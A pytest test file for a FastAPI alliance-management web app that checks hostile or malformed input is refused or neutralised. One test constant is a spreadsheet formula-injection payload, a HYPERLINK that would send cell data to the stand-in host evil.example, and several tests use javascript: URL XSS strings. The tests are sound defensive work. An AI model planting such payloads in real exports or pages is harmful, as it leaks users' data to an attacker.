"""Input an attacker or a fuzzer sends: refused with a 4xx naming the field, never run or a 500."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from alliance_flow import models as m
from alliance_flow.services import alliances as alliance_service
from tests.web.conftest import World, login, token_for

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'


def _problems(answer) -> dict[str, str]:
    return {p["field"]: p["problem"] for p in answer.json()["error"]["problems"]}


# --- 1. no script from data -------------------------------------------------------------------


@pytest.mark.parametrize(
    "website",
    ["javascript:alert(4)", "JavaScript:alert(4)", "java\tscript:alert(1)", "data:text/html,x"],
)
def test_a_website_that_is_not_http_is_refused(client: TestClient, world: World, website) -> None:
    headers = token_for(world.db, "coordinator")
    answer = client.post(
        "/api/v1/alliances/north/organisations",
        json={"name": "Evil Org", "website": website},
        headers=headers,
    )
    assert answer.status_code == 422
    assert "website" in _problems(answer)


def test_a_script_address_already_stored_is_shown_as_text_never_as_a_link(
    client: TestClient, world: World
) -> None:
    # given an address saved before the check existed
    with world.db.transaction() as session:
        north = alliance_service.get_alliance(session=session, ref="north")
        session.add(m.Organisation(alliance_id=north.id, name="Old", website="javascript:alert(4)"))
        session.add(m.Organisation(alliance_id=north.id, name="Good", website="https://ok.example"))
    login(client, "coordinator")
    page = client.get("/alliances/north/organisations").text
    assert 'href="javascript' not in page.lower()
    assert 'href="https://ok.example"' in page


def test_a_publication_with_a_script_address_is_not_a_link_in_the_funder_report(
    client: TestClient, world: World
) -> None:
    with world.db.transaction() as session:
        north = alliance_service.get_alliance(session=session, ref="north")
        session.add(
            m.Publication(
                alliance_id=north.id,
                kind="article",
                title="Leaflet",
                published_on=date(2026, 2, 1),
                url="javascript:alert(4)",
            )
        )
    login(client, "funder")
    page = client.get("/alliances/north/report").text
    assert "Leaflet" in page
    assert 'href="javascript' not in page.lower()


# --- 2. no formula from data --------------------------------------------------------------------


def test_spreadsheets_written_never_hold_a_live_formula(client: TestClient, world: World) -> None:
    with world.db.transaction() as session:
        north = alliance_service.get_alliance(session=session, ref="north")
        north.name = FORMULA
    login(client, "funder")
    for path in ("/alliances/north/report.xlsx", "/reports/portfolio.xlsx"):
        book = load_workbook(io.BytesIO(client.get(path).content))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert not cell.value.startswith(("=", "+", "@", "\t", "\r")), cell.value
    text = client.get("/reports/portfolio.csv").content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + FORMULA in cells
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)


def test_negative_numbers_stay_numbers_in_spreadsheets() -> None:
    from alliance_flow.safety import spreadsheet_cell

    assert spreadsheet_cell(-5) == -5
    assert spreadsheet_cell("-5 days") == "'-5 days"
    assert spreadsheet_cell("\tx") == "'\tx"


# --- 3. the requests that answered 500 ---------------------------------------------------------


def test_unknown_stage_filter_is_a_422_naming_stage(client: TestClient, world: World) -> None:
    answer = client.get("/api/v1/alliances?stage=foo", headers=token_for(world.db, "admin"))
    assert answer.status_code == 422
    assert "stage" in _problems(answer)


@pytest.mark.parametrize("ref", ["%C2%B3", "99999999999999999999", "9223372036854775808", "0"])
def test_refs_that_are_not_ids_are_404_everywhere(client: TestClient, world: World, ref) -> None:
    headers = token_for(world.db, "admin")
    for path in ("", "/history", "/checks", "/members"):
        answer = client.get(f"/api/v1/alliances/{ref}{path}", headers=headers)
        assert answer.status_code in (404, 422), (path, answer.text[:200])
    login(client, "admin")
    for path in ("", "/report", "/report.csv", "/members"):
        answer = client.get(f"/alliances/{ref}{path}")
        assert answer.status_code == 404, (path, answer.text[:200])


def test_item_ids_out_of_range_are_422(client: TestClient, world: World) -> None:
    headers = token_for(world.db, "member")
    answer = client.patch(
        "/api/v1/alliances/north/me/actions/99999999999999999999",
        json={"status": "done"},
        headers=headers,
    )
    assert answer.status_code == 422
    assert "item_id" in _problems(answer)


def test_a_huge_organisation_id_is_refused_naming_it(client: TestClient, world: World) -> None:
    answer = client.post(
        "/api/v1/alliances/north/members",
        json={"name": "Ana", "organisation_id": 99999999999999999999},
        headers=token_for(world.db, "coordinator"),
    )
    assert answer.status_code == 422
    assert "organisation_id" in _problems(answer)


def test_a_300_character_time_zone_is_refused(client: TestClient, world: World) -> None:
    answer = client.post(
        "/api/v1/alliances",
        json={"name": "Tz", "country": "FR", "timezone": "Europe/" + "x" * 300},
        headers=token_for(world.db, "coordinator"),
    )
    assert answer.status_code == 422
    assert "timezone" in _problems(answer)


# --- 7. length limits ----------------------------------------------------------------------


def test_an_overlong_free_text_field_is_refused_naming_it(client: TestClient, world: World) -> None:
    answer = client.post(
        "/api/v1/alliances/north/organisations",
        json={"name": "Big", "address": "x" * 30_000},
        headers=token_for(world.db, "coordinator"),
    )
    assert answer.status_code == 422
    assert "address" in _problems(answer)


def test_a_5_mb_body_is_refused_before_it_is_read(client: TestClient, world: World) -> None:
    answer = client.post(
        "/api/v1/alliances/north/organisations",
        json={"name": "Big", "address": "x" * 5_000_000},
        headers=token_for(world.db, "coordinator"),
    )
    assert answer.status_code == 413
    assert answer.json()["error"]["problems"][0]["field"] == "body"
    login(client, "coordinator")
    page = client.post(
        "/alliances/north/organisations",
        content=b"name=x&address=" + b"x" * 5_000_000,
        headers={"Content-Type": "application/x-www-form-urlencoded", "Accept-Language": "fr"},
    )
    assert page.status_code == 413
    assert "corps de la requête" in page.text


# --- 8. values longer than their column, on every database ------------------------------------


def test_a_phone_longer_than_its_column_is_refused_on_every_database(
    client: TestClient, world: World
) -> None:
    login(client, "coordinator")
    answer = client.post(
        "/api/v1/alliances/north/members",
        json={"name": "Ana", "phone": "0" * 3000},
        headers=token_for(world.db, "coordinator"),
    )
    assert answer.status_code == 422
    assert "phone" in _problems(answer)
    assert "60" in _problems(answer)["phone"]


def test_a_local_time_the_clocks_skip_is_refused(client: TestClient, world: World) -> None:
    from alliance_flow.errors import InvalidInput
    from alliance_flow.services import items as item_service
    from tests.conftest import TODAY

    with pytest.raises(InvalidInput) as refused, world.db.transaction() as session:
        north = alliance_service.get_alliance(session=session, ref="north")
        item_service.add_item(
            session=session,
            alliance=north,
            kind="meeting",
            item_in={
                "kind": "plenary",
                "starts_at": "2026-03-29T01:30",
                "timezone": "Europe/Dublin",
            },
            today=TODAY,
        )
    assert refused.value.problems[0].field == "starts_at"
    assert "does not exist" in refused.value.problems[0].problem


# --- 9. funders see counts, never names --------------------------------------------------------


def test_funders_see_how_many_people_never_who(client: TestClient, world: World) -> None:
    # given two members in north with no contact: the scope check names them for the coordinator
    login(client, "coordinator")
    assert "Mia Member" in client.get("/alliances/north").text
    client.cookies.clear()
    # when a funder looks at the same checks, in every place they can
    login(client, "funder")
    seen = [
        client.get("/alliances/north").text,
        client.get("/alliances/north/report").text,
        client.get("/alliances/north/report.csv").text,
        client.get("/api/v1/alliances/north/checks", headers=token_for(world.db, "funder")).text,
    ]
    book = load_workbook(io.BytesIO(client.get("/alliances/north/report.xlsx").content))
    seen.append(" ".join(str(c.value) for s in book.worksheets for r in s.iter_rows() for c in r))
    # then no name appears, and the reason still says how many
    for text in seen:
        assert "Mia Member" not in text and "Olle Other" not in text
    assert "2 people" in seen[0]


HUGE = "99999999999999999999"


def _page_routes() -> list[tuple[str, str]]:
    """(method, path) of every dashboard page, each path parameter but the alliance a huge id."""
    from tests.web.test_authorization_matrix import routes_of_app

    found = []
    for method, path in routes_of_app():
        if path.startswith("/api/") or "{ref}" not in path:
            continue
        found.append((method, re.sub(r"\{(?!ref\})[^}]+\}", HUGE, path.replace("{ref}", "north"))))
    return found


def test_ids_out_of_range_in_page_urls_are_refused_not_500(client: TestClient) -> None:
    """Every page whose URL carries an id, in its path or its query (?edit=, ?meeting=)."""
    token = login(client, "coordinator")
    routes = _page_routes()
    assert ("GET", f"/alliances/north/members/{HUGE}") in routes  # the walk finds the pages
    for method, path in routes:
        for query in ("", f"?edit={HUGE}&meeting={HUGE}&member={HUGE}", "?edit=%C2%B3"):
            answer = client.request(
                method, path + query, data={"csrf_token": token}, follow_redirects=False
            )
            assert answer.status_code < 500, (method, path + query, answer.status_code)


def test_the_stakeholder_table_export_never_holds_a_formula(
    client: TestClient, world: World
) -> None:
    with world.db.transaction() as session:
        north = alliance_service.get_alliance(session=session, ref="north")
        session.add(m.Organisation(alliance_id=north.id, name=FORMULA, phone="+33 1 23"))
    login(client, "coordinator")
    text = client.get("/alliances/north/stakeholders.csv?contacts=yes").content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]
    assert "'" + FORMULA in cells
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    xlsx = client.get("/alliances/north/stakeholders.xlsx?contacts=yes").content
    book = load_workbook(io.BytesIO(xlsx))
    values = [c.value for s in book.worksheets for r in s.iter_rows() for c in r]
    assert not any(isinstance(v, str) and v.startswith(("=", "+", "@")) for v in values)
